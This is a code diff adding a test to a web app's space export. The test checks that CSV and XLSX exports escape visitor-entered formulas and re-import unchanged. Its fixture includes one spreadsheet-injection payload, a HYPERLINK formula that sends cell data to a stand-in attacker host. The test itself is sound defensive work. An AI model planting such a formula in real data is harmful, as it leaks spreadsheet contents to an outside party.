@@ -302,6 +302,36 @@ def test_the_csv_export_is_utf8_with_a_bom_and_names_related_rows_by_slug(admin_
     assert sorted(row["networks"].split(",")) == ["maker2", "people-squared"]
 
 
+@pytest.mark.parametrize(("file_format", "name"), [(CSV, "spaces.csv"), (XLSX, "spaces.xlsx")])
+def test_formulas_a_visitor_typed_come_out_as_text_and_import_back_unchanged(
+    admin_client, file_format, name
+):
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    SpaceFactory(
+        slug="lab",
+        name_en=hostile,
+        name_zh="@SUM(1)",
+        phone="+86 10 1234",
+        longitude=-0.5,
+        latitude=51,
+    )
+
+    exported = export(admin_client, file_format)
+
+    if file_format == CSV:
+        (row,) = csv.DictReader(io.StringIO(exported.decode("utf-8-sig")))
+    else:
+        sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
+        header, values = [[cell.value for cell in line] for line in sheet.iter_rows()]
+        row = dict(zip(header, values, strict=True))
+    assert row["name_en"] == "'" + hostile and row["name_zh"] == "'@SUM(1)"
+    assert row["phone"] == "'+86 10 1234"
+    assert str(row["longitude"]) == "-0.500000"  # a number stays a number
+    result = preview(admin_client, exported, file_format, name=name).context["result"]
+    assert not result.has_validation_errors(), result.report.error_sentences()
+    assert (result.totals["skip"], result.totals["update"]) == (1, 0)  # nothing changes
+
+
 def test_export_queries_do_not_grow_with_rows(admin_client, django_assert_max_num_queries):
     # session, user, the list's filter choices (city, networks, services, equipment), the
     # spaces with their city (count, then a page of up to 100), their networks, services and
